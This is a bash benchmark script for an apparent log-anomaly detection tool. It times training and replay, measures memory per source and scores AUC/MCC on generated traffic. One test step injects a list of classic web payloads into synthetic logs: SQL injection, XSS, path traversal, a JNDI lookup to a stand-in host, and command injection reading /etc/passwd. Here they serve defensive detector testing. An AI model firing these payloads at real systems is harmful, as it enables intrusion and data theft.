#!/usr/bin/env bash
# Learned detection (issue 13): what `gatehawk train` costs on 10M log lines,
# what a trained profile policy costs per record in replay, memory per
# profiled source, and AUC/MCC per model on generated labelled traffic
# (tests/lib/gen_traffic.py). Every speed figure beside a peer measured in
# the same run. Figures only, never a pass/fail on speed.
#   tests/bench/profile_bench.sh OUTDIR     (writes OUTDIR/profile.md)
# Environment: TRAIN_LINES (default 10000000), TRAIN_FORMAT (json or
# combined; default json when the disk has room), DAY_SCALE (default 10:
# about 1M lines), ROUNDS (default 3), GATEHAWK (default build/gatehawk).
#
# Times come from wait4() of each gatehawk process: wall, CPU (user + sys)
# and peak RSS; on 2 shared cores CPU time per unit of work is the figure
# to compare, wall time only says how long one waits. Generating the
# traffic is not timed.
set -u
cd "$(dirname "$0")/../.." || exit 1

OUT=${1:?usage: $0 OUTDIR}
TRAIN_LINES=${TRAIN_LINES:-10000000}
DAY_SCALE=${DAY_SCALE:-10}
ROUNDS=${ROUNDS:-3}
GATEHAWK=${GATEHAWK:-build/gatehawk}
GEN=tests/lib/gen_traffic.py
SPEED_GOAL=1000000   # issue 13: records/s with a profile policy loaded
CONCURRENT_SOURCES=100000
# gen_traffic.py runs out of addresses past about 17 scale-days (its three
# documentation /24s), so the history is days of scale 10, one seed each.
HISTORY_SCALE=10
LOAD_START=$(cut -d' ' -f1 /proc/loadavg)
CORE_POLICIES=(policies/*.json)
N_CORE=${#CORE_POLICIES[@]}

mkdir -p "$OUT" || exit 1
[[ -x $GATEHAWK ]] || { echo "$GATEHAWK missing: make all" >&2; exit 1; }
work=$(mktemp -d /tmp/gh-profile-bench.XXXXXX) || exit 1
trap 'rm -rf "$work"' EXIT
trap 'exit 130' INT TERM HUP

# calc FORMAT EXPR: printf FORMAT of an awk expression (bash has no floats).
calc() {
	awk "BEGIN { printf \"$1\", $2 }"
}

# commas N: N with thousands separators, as README writes figures.
commas() {
	sed -E ':a; s/\B[0-9]{3}\>/,&/; ta' <<<"$1"
}

median() {
	printf '%s\n' "$@" | sort -g | awk '{ v[NR] = $1 } END { print v[int((NR + 1) / 2)] }'
}

# The child's own rusage from wait4: no sampling, no tool to install.
WAIT4_PY='
import os, sys, time
out, err, argv = sys.argv[1], sys.argv[2], sys.argv[3:]
t0 = time.monotonic()
pid = os.fork()
if pid == 0:
    try:
        os.dup2(os.open(os.devnull, os.O_RDONLY), 0)
        os.dup2(os.open(out, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644), 1)
        os.dup2(os.open(err, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644), 2)
        os.execvp(argv[0], argv)
    finally:
        os._exit(127)
_, status, ru = os.wait4(pid, 0)
print("%.3f %.3f %d" % (time.monotonic() - t0, ru.ru_utime + ru.ru_stime, ru.ru_maxrss))
sys.exit(os.waitstatus_to_exitcode(status))
'

# measure NAME CMD...: CMD with stdout in $work/NAME.out, stderr in
# $work/NAME.err; sets WALL and CPU (s) and RSS_KIB (peak).
measure() {
	local name=$1 r
	shift
	if ! r=$(python3 -c "$WAIT4_PY" "$work/$name.out" "$work/$name.err" "$@"); then
		echo "$name failed: $*" >&2
		tail -5 "$work/$name.err" >&2
		return 1
	fi
	read -r WALL CPU RSS_KIB <<<"$r"
}

# replay_rate NAME: lines/s from the replay summary of run NAME (start-up excluded).
replay_rate() {
	sed -nE 's/^replay:.* ([0-9]+) lines\/s.*/\1/p' "$work/$1.err"
}

replay_sources() {
	sed -nE 's/^replay:.* ([0-9]+) sources.*/\1/p' "$work/$1.err"
}

# ---- data ---------------------------------------------------------------------

# history_format: json when its files (~560 B a line) fit twice over with
# room to spare, else combined (~220 B a line, no cookie, XHR or Accept).
history_format() {
	local avail_kib
	if [[ -n ${TRAIN_FORMAT:-} ]]; then
		echo "$TRAIN_FORMAT"
		return
	fi
	avail_kib=$(df -Pk "$work" | awk 'NR == 2 { print $4 }')
	if ((avail_kib > TRAIN_LINES * 560 * 2 / 1024 + 4 * 1048576)); then
		echo json
	else
		echo combined
	fi
}

# gen_history FORMAT: TRAIN_LINES benign lines as days of one seed each
# (seed k, day k from 2026-10-01), two generators at a time, in
# $work/hist/NN.log, oldest first; the last day cut to the exact count.
gen_history() {
	local fmt=$1 day=0 total=0 f n i pids
	mkdir -p "$work/hist"
	while ((total < TRAIN_LINES)); do
		pids=()
		for i in 1 2; do
			day=$((day + 1))
			"$GEN" --seed "$day" --start "$(date -u -d "2026-10-01 + $((day - 1)) days" +%FT%TZ)" \
				--hours 24 --scale "$HISTORY_SCALE" --benign-only --format "$fmt" \
				--out-log "$(printf '%s/hist/%02d.log' "$work" "$day")" \
				--out-labels /dev/null 2>/dev/null &
			pids+=($!)
		done
		for i in "${pids[@]}"; do
			wait "$i" || { echo "gen_traffic.py failed on day $day" >&2; return 1; }
		done
		total=$(cat "$work"/hist/*.log | wc -l)
	done
	total=0
	for f in "$work"/hist/*.log; do
		if ((total >= TRAIN_LINES)); then
			rm "$f"
			continue
		fi
		n=$(wc -l <"$f")
		if ((total + n > TRAIN_LINES)); then
			head -n $((TRAIN_LINES - total)) "$f" >"$f.cut" && mv "$f.cut" "$f" || return 1
			n=$((TRAIN_LINES - total))
		fi
		total=$((total + n))
	done
	HISTORY=("$work"/hist/*.log)
	HISTORY_DAYS=${#HISTORY[@]}
	HISTORY_MIB=$(($(cat "${HISTORY[@]}" | wc -c) / 1048576))
}

# peak_live_groups LOG: the most source-behaviour groups (a /32 or /64) alive
# at once in a JSON log, as the engine keeps them: from a source's first
# record to 70 s past the end of the hour of its last one (window + late
# tolerance + close slack, engine.c). An estimate: the sweep is lazy.
peak_live_groups() {
	python3 - "$1" <<'EOF'
import ipaddress, re, sys
KEEP = 3600 + 10 + 60
rt, ra = re.compile(r'"msec":"([0-9.]+)"'), re.compile(r'"remote_addr":"([^"]+)"')
until, ev = {}, []
for line in open(sys.argv[1]):
    t, a = float(rt.search(line).group(1)), ra.search(line).group(1)
    if ":" in a:
        a = str(ipaddress.ip_network(a + "/64", strict=False))
    end, u = t - t % 3600 + KEEP, until.get(a)
    if u is None or t >= u:
        if u is not None:
            ev.append((u, -1))
        ev.append((t, 1))
        until[a] = end
    else:
        until[a] = max(u, end)
ev += [(u, -1) for u in until.values()]
live = peak = 0
for _, d in sorted(ev):
    live += d
    peak = max(peak, live)
print(peak)
EOF
}

# concurrent_log N: N sources (10.x.y.z) with 9 requests each within 20
# minutes of one hour: every group alive at the end, none scored yet
# (min_requests 10), so the state is all there is. Combined format.
concurrent_log() {
	awk -v n="$1" 'BEGIN {
		for (r = 0; r < 9; r++)
			for (i = 1; i <= n; i++) {
				s = int((r * n + i) * 1200 / (9 * n))
				printf "10.%d.%d.%d - - [01/Dec/2026:00:%02d:%02d +0000] \"GET /p/%d HTTP/1.1\" 200 512 \"-\" \"Mozilla/5.0\"\n",
					int(i / 65536), int(i / 256) % 256, i % 256, int(s / 60), s % 60, r
			}
	}'
}

# policy_sets: the replay cases under $work/sets: core (policies/*.json),
# both (core + the two trained profiles), sb and ep (one trained profile
# each), floor (one match policy that never matches: read + parse + engine
# dispatch). Models from $work/prof/models.
policy_sets() {
	local s
	for s in core both sb ep floor; do mkdir -p "$work/sets/$s"; done
	cp policies/*.json "$work/sets/core/"
	cp policies/*.json "$work/prof"/*.json "$work/sets/both/"
	cp -R "$work/prof/models" "$work/sets/both/"
	cp "$work/prof/source-behaviour.json" "$work/sets/sb/"
	mkdir -p "$work/sets/sb/models" "$work/sets/ep/models"
	cp "$work/prof/models/source-behaviour.model" "$work/sets/sb/models/"
	cp "$work/prof/endpoint-shape.json" "$work/sets/ep/"
	cp "$work/prof/models/endpoint-shape.model" "$work/sets/ep/models/"
	cat >"$work/sets/floor/never.json" <<'EOF'
{"name": "parse-floor", "description": "Never matches: the cost of reading and parsing.",
 "kind": "match", "severity": "low", "where": {"field": "status", "eq": 999},
 "action": {"type": "alert"}}
EOF
}

# ---- 1. training on TRAIN_LINES -------------------------------------------------

bench_train() {
	local fmt
	fmt=$(history_format)
	HISTORY_FORMAT=$fmt
	echo "generating $TRAIN_LINES benign $fmt lines (not timed) ..."
	gen_history "$fmt" || return 1
	cat "${HISTORY[@]}" >/dev/null # page cache warm for every run
	mkdir -p "$work/sets/core"
	cp policies/*.json "$work/sets/core/"
	cp -R policies/profiles "$work/prof"
	rm -rf "$work/prof/models"

	echo "replay, $N_CORE core policies, the peer ..."
	measure hist_core "$GATEHAWK" replay --policies "$work/sets/core" "${HISTORY[@]}" || return 1
	T_CORE=("$WALL" "$CPU" "$RSS_KIB")
	echo "train source-behaviour ..."
	measure train_sb "$GATEHAWK" train --policy "$work/prof/source-behaviour.json" --json \
		"${HISTORY[@]}" || return 1
	T_SB=("$WALL" "$CPU" "$RSS_KIB")
	echo "train endpoint-shape ..."
	measure train_ep "$GATEHAWK" train --policy "$work/prof/endpoint-shape.json" --json \
		"${HISTORY[@]}" || return 1
	T_EP=("$WALL" "$CPU" "$RSS_KIB")
	SB_VECTORS=$(jq .training.vectors "$work/train_sb.out")
	SB_SOURCES=$(jq .training.sources "$work/train_sb.out")
	SB_LINES=$(jq .training.lines "$work/train_sb.out")
	EP_LINES=$(jq .training.lines "$work/train_ep.out")
	EP_HELD=$(jq .training.held_out "$work/train_ep.out")
	SB_MODEL_KIB=$(($(stat -c %s "$work/prof/models/source-behaviour.model") / 1024))
	EP_MODEL_KIB=$(($(stat -c %s "$work/prof/models/endpoint-shape.model") / 1024))
	rm -rf "$work/hist"
}

train_row() {
	local name=$1 lines=$2
	shift 2
	printf '| %s | %s | %.1f | %.1f | %s | %.2f | %s | %.2fx |\n' "$name" "$(commas "$lines")" "$1" "$2" \
		"$(commas "$(calc '%.0f' "$TRAIN_LINES / $2")")" "$(calc '%.2f' "$2 / $1")" "$(($3 / 1024))" \
		"$(calc '%.2f' "$2 / ${T_CORE[1]}")"
}

# ---- 2. scoring cost per record, 3. memory per profiled source ------------------

SETS=(floor core both sb ep)
declare -A SET_NAME=(
	[floor]="parse floor: 1 match policy that never matches"
	[core]="$N_CORE core policies"
	[both]="core + source-behaviour + endpoint-shape"
	[sb]="source-behaviour alone"
	[ep]="endpoint-shape alone"
)
declare -A STARTUP_CPU STARTUP_RSS DAY_CPU DAY_RATE DAY_ALERTS DAY_RSS NS_REC CPU_RATE

bench_replay_day() {
	local s round cpus rates
	echo "generating a labelled day at scale $DAY_SCALE (not timed) ..."
	"$GEN" --seed 2 --start 2026-11-08T00:00:00Z --hours 24 --scale "$DAY_SCALE" \
		--out-log "$work/day.log" --out-labels "$work/day.labels" 2>/dev/null || return 1
	DAY_LINES=$(wc -l <"$work/day.log")
	head -n 100 "$work/day.log" >"$work/day100.log"
	: >"$work/empty.log"
	policy_sets
	for s in "${SETS[@]}"; do
		measure "empty_$s" "$GATEHAWK" replay --policies "$work/sets/$s" "$work/empty.log" || return 1
		STARTUP_CPU[$s]=$CPU
		STARTUP_RSS[$s]=$RSS_KIB
	done
	echo "replay of the day ($DAY_LINES lines), $ROUNDS rounds of ${#SETS[@]} policy sets ..."
	declare -A cpu_runs rate_runs
	for ((round = 1; round <= ROUNDS; round++)); do
		for s in "${SETS[@]}"; do
			measure "day_$s" "$GATEHAWK" replay --policies "$work/sets/$s" "$work/day.log" || return 1
			cpu_runs[$s]+="$CPU "
			rate_runs[$s]+="$(replay_rate "day_$s") "
			DAY_RSS[$s]=$RSS_KIB
		done
	done
	for s in "${SETS[@]}"; do
		# shellcheck disable=SC2086 # the runs are space-separated
		cpus=$(median ${cpu_runs[$s]})
		# shellcheck disable=SC2086
		rates=$(median ${rate_runs[$s]})
		DAY_CPU[$s]=$cpus
		DAY_RATE[$s]=$rates
		DAY_ALERTS[$s]=$(wc -l <"$work/day_$s.out")
	done
	DAY_SOURCES=$(replay_sources day_sb)
	for s in "${SETS[@]}"; do
		NS_REC[$s]=$(calc '%.0f' "(${DAY_CPU[$s]} - ${STARTUP_CPU[$s]}) * 1e9 / $DAY_LINES")
		CPU_RATE[$s]=$(calc '%.0f' "1e9 / ${NS_REC[$s]}")
	done
}

bench_memory() {
	measure mem_small "$GATEHAWK" replay --policies "$work/sets/sb" "$work/day100.log" || return 1
	MEM_SMALL=$RSS_KIB
	MEM_DAY=${DAY_RSS[sb]}
	LIVE_GROUPS=$(peak_live_groups "$work/day.log") || return 1
	concurrent_log "$CONCURRENT_SOURCES" >"$work/conc.log"
	head -n 100 "$work/conc.log" >"$work/conc100.log"
	measure mem_conc "$GATEHAWK" replay --policies "$work/sets/sb" "$work/conc.log" || return 1
	MEM_CONC=$RSS_KIB
	measure mem_conc100 "$GATEHAWK" replay --policies "$work/sets/sb" "$work/conc100.log" || return 1
	MEM_CONC100=$RSS_KIB
	# The engine's structs, from the binary's debug information when gdb is here.
	SIZES=$(gdb -batch -ex 'p sizeof(struct profile_state)' -ex 'p sizeof(struct group)' \
		-ex 'p sizeof(struct slot)' "$GATEHAWK" 2>/dev/null | awk '/^\$/ { printf "%s ", $3 }')
	read -r SZ_STATE SZ_GROUP SZ_SLOT <<<"${SIZES:-376 64 32}"
	# + 8 B keep array + 8-16 B hash table entry, malloc headers left out.
	SZ_EST=$((SZ_STATE + SZ_GROUP + SZ_SLOT + 8 + 16))
}

# ---- 4. AUC and MCC per model ----------------------------------------------------

# The data and models of tests/e2e/profile.bats: a benign week (seed 1) to
# train on, a labelled day (seed 2) to test on.
bench_quality() {
	local d=$work/q payloads words tmpl i m
	mkdir -p "$d"
	echo "generating the week and the day of tests/e2e/profile.bats (not timed) ..."
	"$GEN" --seed 1 --start 2026-11-01T00:00:00Z --hours 168 --benign-only \
		--out-log "$d/week.log" --out-labels "$d/week.labels" 2>/dev/null || return 1
	"$GEN" --seed 2 --start 2026-11-08T00:00:00Z --hours 24 \
		--out-log "$d/day.log" --out-labels "$d/day.labels" 2>/dev/null || return 1
	cp -R policies/profiles "$d/profiles"
	rm -rf "$d/profiles/models"
	jq '.name = "source-behaviour-pca" | .model = {"type": "pca",
		"file": "models/source-behaviour-pca.model"}' \
		policies/profiles/source-behaviour.json >"$d/profiles/source-behaviour-pca.json"
	# The day plus 20 sources at its end: 10 send one payload in a known
	# parameter, 10 one ordinary search; tested on those 20 only (the day's
	# generated attackers send no payloads).
	# shellcheck disable=SC2016 # ${jndi:...} is a payload, not an expansion
	payloads=("' union select 1,2,3--" "<script>alert(1)</script>" "../../../etc/passwd"
		'${jndi:ldap://x.example/a}' ";cat /etc/passwd" "1' or '1'='1" "\"><svg onload=1>"
		"|id" "%00" "{{7*7}}")
	words=(red shoes "blue jacket" lamp cedar "amber ring" socks tea "green cup" mug)
	tmpl=$(grep -m1 '/api/v1/search?q=' "$d/day.log" |
		jq -c --arg t "$(tail -1 "$d/day.log" | jq -r .msec)" '.msec = $t | del(.time_iso8601)')
	cp "$d/day.log" "$d/payload.log"
	: >"$d/payload.labels"
	for ((i = 0; i < 10; i++)); do
		jq -c --arg a "198.18.250.$((i + 1))" --arg q "${payloads[$i]}" \
			'.remote_addr = $a | .request = "GET /api/v1/search?q=\($q | @uri) HTTP/2.0"' \
			<<<"$tmpl" >>"$d/payload.log"
		echo "198.18.250.$((i + 1)) attack" >>"$d/payload.labels"
		jq -c --arg a "198.18.251.$((i + 1))" --arg q "${words[$i]}" \
			'.remote_addr = $a | .request = "GET /api/v1/search?q=\($q | @uri) HTTP/2.0"' \
			<<<"$tmpl" >>"$d/payload.log"
		echo "198.18.251.$((i + 1)) benign" >>"$d/payload.labels"
	done
	for m in source-behaviour source-behaviour-pca; do
		"$GATEHAWK" train --policy "$d/profiles/$m.json" --test-log "$d/day.log" \
			--test-labels "$d/day.labels" --json "$d/week.log" >"$d/$m.json" || return 1
	done
	"$GATEHAWK" train --policy "$d/profiles/endpoint-shape.json" --test-log "$d/payload.log" \
		--test-labels "$d/payload.labels" --json "$d/week.log" >"$d/endpoint-shape.json" || return 1
	WEEK_LINES=$(wc -l <"$d/week.log")
	Q_DAY_SOURCES=$(wc -l <"$d/day.labels")
	Q_DAY_ATTACKERS=$(grep -c ' attack' "$d/day.labels")
}

# quality_row MODEL TYPE TESTED-ON
quality_row() {
	jq -r --arg n "$1" --arg t "$2" --arg on "$3" '.training as $r | $r.test |
		"| \($n) | \($t) | \($on) | \(.auc * 1000 | round / 1000) | \(.mcc * 1000 | round / 1000) | \(.tpr * 1000 | round / 1000) | \(.fpr * 1000 | round / 1000) | \(.tp) / \(.fp) / \(.tn) / \(.fn) | \($r.threshold * 1000 | round / 1000) |"' \
		"$work/q/$1.json"
}

# q FILE FIELD: one figure of a test result, 3 decimals.
q() {
	jq -r ".training.test.$2 * 1000 | round / 1000" "$work/q/$1.json"
}

# ---- report ------------------------------------------------------------------

report() {
	local cpu_name sb_goal ep_goal added parts mem_day mem_conc load_peak
	cpu_name=$(awk -F': ' '/^model name/ { print $2; exit }' /proc/cpuinfo)
	sb_goal=$(calc '%.2f' "${CPU_RATE[sb]} / $SPEED_GOAL")
	ep_goal=$(calc '%.2f' "${CPU_RATE[ep]} / $SPEED_GOAL")
	added=$((NS_REC[both] - NS_REC[core]))
	parts=$((NS_REC[core] + NS_REC[sb] + NS_REC[ep] - 2 * NS_REC[floor]))
	# The day's groups are allocated in heap the model load freed: no peak
	# above the 100-line run's unless they outgrow it.
	if ((MEM_DAY > MEM_SMALL)); then
		mem_day=$(calc '%.0f' "($MEM_DAY - $MEM_SMALL) * 1024 / $LIVE_GROUPS")
	else
		mem_day="none visible"
	fi
	mem_conc=$(calc '%.0f' "($MEM_CONC - $MEM_CONC100) * 1024 / $CONCURRENT_SOURCES")
	load_peak=$((STARTUP_RSS[sb] - STARTUP_RSS[floor]))
	echo "# Learned detection: training, scoring, memory, AUC/MCC"
	echo
	echo "$(nproc) CPUs ($cpu_name), $(date -u +%F). CPU = user + sys of the process (wait4)," \
		"wall includes start-up; generation of the traffic (tests/lib/gen_traffic.py) is not timed." \
		"Load average (1 min) at the start and the end: $LOAD_START, $(cut -d' ' -f1 /proc/loadavg):" \
		"wall-clock figures depend on what else runs on these cores, CPU figures much less."
	echo
	echo "## 1. \`gatehawk train\` on $(commas "$TRAIN_LINES") lines"
	echo
	echo "History: $HISTORY_FORMAT, $HISTORY_MIB MiB, $HISTORY_DAYS generated days of benign traffic" \
		"at scale $HISTORY_SCALE (one seed a day: gen_traffic.py runs out of addresses past" \
		"~17 scale-days in one run), given as $HISTORY_DAYS files, page cache warm." \
		"Peer: \`gatehawk replay\` with the $N_CORE core policies over the same files."
	echo
	echo "| run | lines read | wall s | CPU s | history lines per CPU s | CPU / wall (cores) | peak RSS MiB | CPU vs replay |"
	echo "|---|---:|---:|---:|---:|---:|---:|---:|"
	train_row "replay, $N_CORE core policies (peer)" "$TRAIN_LINES" "${T_CORE[@]}"
	train_row "train source-behaviour (kde, 1 h windows)" "$SB_LINES" "${T_SB[@]}"
	train_row "train endpoint-shape (reads the logs twice)" "$EP_LINES" "${T_EP[@]}"
	echo
	echo "source-behaviour: $(commas "$SB_VECTORS") vectors from $(commas "$SB_SOURCES") sources, model" \
		"$SB_MODEL_KIB KiB. endpoint-shape: $(commas "$EP_HELD") requests held out for the threshold," \
		"model $EP_MODEL_KIB KiB."
	echo
	echo "How train uses the cores: one. It is single-threaded: one pass (endpoint-shape: two, the" \
		"second to score held-out requests) of read + parse + engine on one core, then the fit," \
		"also on that core (netlib LAPACK, no threads). CPU / wall above is at most one core;" \
		"the other core is left to the site. $(commas "$TRAIN_LINES") lines take" \
		"$(calc '%.0f' "${T_SB[0]}") s (source-behaviour) and $(calc '%.0f' "${T_EP[0]}") s (endpoint-shape):" \
		"minutes, not hours."
	echo
	echo "## 2. Scoring cost per record"
	echo
	echo "A labelled day: gen_traffic.py --seed 2 --scale $DAY_SCALE --hours 24, JSON," \
		"$(commas "$DAY_LINES") lines, $(commas "$DAY_SOURCES") sources; models trained in 1." \
		"CPU per record = (median CPU of $ROUNDS replays of the day - CPU of a replay of an empty log) /" \
		"lines, so start-up (policy compile, model load) is out; records per CPU s is its inverse;" \
		"the replay summary's own lines/s (start-up excluded, but wall clock) is the median of $ROUNDS."
	echo
	echo "| policies | start-up CPU ms | CPU ns/record | vs core | records per CPU s | records/s, replay summary (wall) | alerts |"
	echo "|---|---:|---:|---:|---:|---:|---:|"
	for s in "${SETS[@]}"; do
		printf '| %s | %.0f | %d | %s | %s | %s | %d |\n' "${SET_NAME[$s]}" \
			"$(calc '%.0f' "${STARTUP_CPU[$s]} * 1000")" "${NS_REC[$s]}" \
			"$(calc '%.2fx' "${NS_REC[$s]} / ${NS_REC[core]}")" "$(commas "${CPU_RATE[$s]}")" \
			"$(commas "${DAY_RATE[$s]}")" "${DAY_ALERTS[$s]}"
	done
	echo
	echo "The two profiles add **$added ns/record** to the $N_CORE core policies" \
		"($(calc '%.2fx' "${NS_REC[both]} / ${NS_REC[core]}") their cost). Above the parse floor:" \
		"source-behaviour $((NS_REC[sb] - NS_REC[floor])) ns/record," \
		"endpoint-shape $((NS_REC[ep] - NS_REC[floor])) ns/record," \
		"core $((NS_REC[core] - NS_REC[floor])) ns/record; all three together" \
		"$((NS_REC[both] - NS_REC[floor])) ns/record against $((parts - NS_REC[floor])) for the sum of the parts."
	echo
	echo "Goal, >= $(commas $SPEED_GOAL) records/s with a profile policy loaded (replay: read + parse" \
		"+ engine on one core), per CPU second: source-behaviour $(commas "${CPU_RATE[sb]}") = **${sb_goal}x**" \
		"the goal, endpoint-shape $(commas "${CPU_RATE[ep]}") = **${ep_goal}x**. By the replay summary's" \
		"wall clock: $(commas "${DAY_RATE[sb]}") = $(calc '%.2fx' "${DAY_RATE[sb]} / $SPEED_GOAL") and" \
		"$(commas "${DAY_RATE[ep]}") = $(calc '%.2fx' "${DAY_RATE[ep]} / $SPEED_GOAL")."
	echo
	echo "## 3. Memory per profiled source"
	echo
	echo "source-behaviour alone (one group per /32 or /64), peak RSS (wait4) less the same over" \
		"the first 100 lines, over the groups alive at once."
	echo
	echo "| log | peak RSS KiB | over 100 lines KiB | groups | bytes per group |"
	echo "|---|---:|---:|---:|---:|"
	printf '| the day (%s lines) | %d | %d | %s alive at most (estimate) of %s sources in the day | %s |\n' \
		"$(commas "$DAY_LINES")" "$MEM_DAY" "$MEM_SMALL" "$(commas "$LIVE_GROUPS")" \
		"$(commas "$DAY_SOURCES")" "$mem_day"
	printf '| %s sources at once, 9 requests each, one hour (combined) | %d | %d | %s | %s |\n' \
		"$(commas "$CONCURRENT_SOURCES")" "$MEM_CONC" "$MEM_CONC100" \
		"$(commas "$CONCURRENT_SOURCES")" "$mem_conc"
	echo
	echo "Estimate from the structs (gdb on the binary): profile_state $SZ_STATE B + group $SZ_GROUP B" \
		"+ slot $SZ_SLOT B + keep 8 B + hash table ~16 B = **~$SZ_EST B per group** before malloc" \
		"headers; the measured figures also hold replay's set of distinct sources (its summary)" \
		"and, for the day, allocator slack. Groups alive on the day are estimated from the log" \
		"(first record to 70 s past the end of the hour of the last); the engine's own count is" \
		"not printed by replay. Loading the model peaks at $load_peak KiB over the parse floor's" \
		"start-up (replays of an empty log); the day's groups (~$((LIVE_GROUPS * SZ_EST / 1024)) KiB" \
		"by the estimate) fit in the heap that load freed; the log with $(commas "$CONCURRENT_SOURCES") sources at once, well past" \
		"that, gives the figure to quote."
	echo
	echo "## 4. AUC and MCC per model"
	echo
	echo "Trained on a generated benign week (seed 1, $(commas "$WEEK_LINES") lines), tested on an unseen" \
		"labelled day (seed 2, $Q_DAY_SOURCES sources, $Q_DAY_ATTACKERS attackers): per source," \
		"its highest score; the data of tests/e2e/profile.bats. endpoint: the day plus 10 sources" \
		"with one payload each in a search parameter and 10 with one ordinary search, tested on those 20."
	echo
	echo "| policy | model | tested on | AUC | MCC | TPR | FPR | tp / fp / tn / fn | threshold |"
	echo "|---|---|---|---:|---:|---:|---:|---:|---:|"
	quality_row source-behaviour kde "the day's sources"
	quality_row source-behaviour-pca pca "the day's sources"
	quality_row endpoint-shape endpoint "the 20 one-request sources"
	echo
	echo "## Rows for README.md \"## Benchmarks\""
	echo
	echo '```'
	# shellcheck disable=SC2016 # backquotes are markdown
	printf '| `train` source-behaviour (kde), %s generated %s lines | %.0f s, %.1f CPU s (%s lines/CPU s, one core), %d MiB | replay, %d core policies, same files: %.1f CPU s | %.2fx | minutes, not hours: %s |\n' \
		"$(commas "$TRAIN_LINES")" "$HISTORY_FORMAT" "${T_SB[0]}" "${T_SB[1]}" \
		"$(commas "$(calc '%.0f' "$TRAIN_LINES / ${T_SB[1]}")")" $((T_SB[2] / 1024)) \
		"$N_CORE" "${T_CORE[1]}" "$(calc '%.2f' "${T_SB[1]} / ${T_CORE[1]}")" \
		"$(awk "BEGIN { print (${T_SB[0]} < 3600) ? \"met\" : \"**missed**\" }")"
	# shellcheck disable=SC2016
	printf '| `train` endpoint-shape, same lines (two passes) | %.0f s, %.1f CPU s, %d MiB | the same replay | %.2fx | |\n' \
		"${T_EP[0]}" "${T_EP[1]}" $((T_EP[2] / 1024)) "$(calc '%.2f' "${T_EP[1]} / ${T_CORE[1]}")"
	printf '| replay, %s-line generated JSON day, trained source-behaviour alone | %s records per CPU s (%s/s by its wall clock) | goal %s | %sx | >= 1 M records/s with a profile: %s |\n' \
		"$(commas "$DAY_LINES")" "$(commas "${CPU_RATE[sb]}")" "$(commas "${DAY_RATE[sb]}")" \
		"$(commas $SPEED_GOAL)" "$sb_goal" \
		"$(awk "BEGIN { print ($sb_goal >= 1) ? \"met\" : \"**missed**\" }")"
	printf '| same day, both trained profiles added to the %d core policies | +%d ns/record (%d ns/record in all) | the core policies alone: %d ns/record | %sx | |\n' \
		"$N_CORE" "$added" "${NS_REC[both]}" "${NS_REC[core]}" "$(calc '%.2f' "${NS_REC[both]} / ${NS_REC[core]}")"
	printf '| profile memory per source (source-behaviour, %s sources at once) | %s B | struct estimate ~%d B | %sx | |\n' \
		"$(commas "$CONCURRENT_SOURCES")" "$mem_conc" "$SZ_EST" "$(calc '%.2f' "$mem_conc / $SZ_EST")"
	printf '| learned detection, unseen labelled day (trained on a benign week) | kde AUC %s, MCC %s, TPR %s at FPR %s | pca: AUC %s, MCC %s, TPR %s at FPR %s | | |\n' \
		"$(q source-behaviour auc)" "$(q source-behaviour mcc)" "$(q source-behaviour tpr)" "$(q source-behaviour fpr)" \
		"$(q source-behaviour-pca auc)" "$(q source-behaviour-pca mcc)" "$(q source-behaviour-pca tpr)" "$(q source-behaviour-pca fpr)"
	printf '| endpoint-shape, 10 one-request payloads vs 10 ordinary searches | AUC %s, TPR %s at FPR %s | | | |\n' \
		"$(q endpoint-shape auc)" "$(q endpoint-shape tpr)" "$(q endpoint-shape fpr)"
	echo '```'
}

bench_train || exit 1
bench_replay_day || exit 1
bench_memory || exit 1
bench_quality || exit 1
report >"$OUT/profile.md"
cat "$OUT/profile.md"
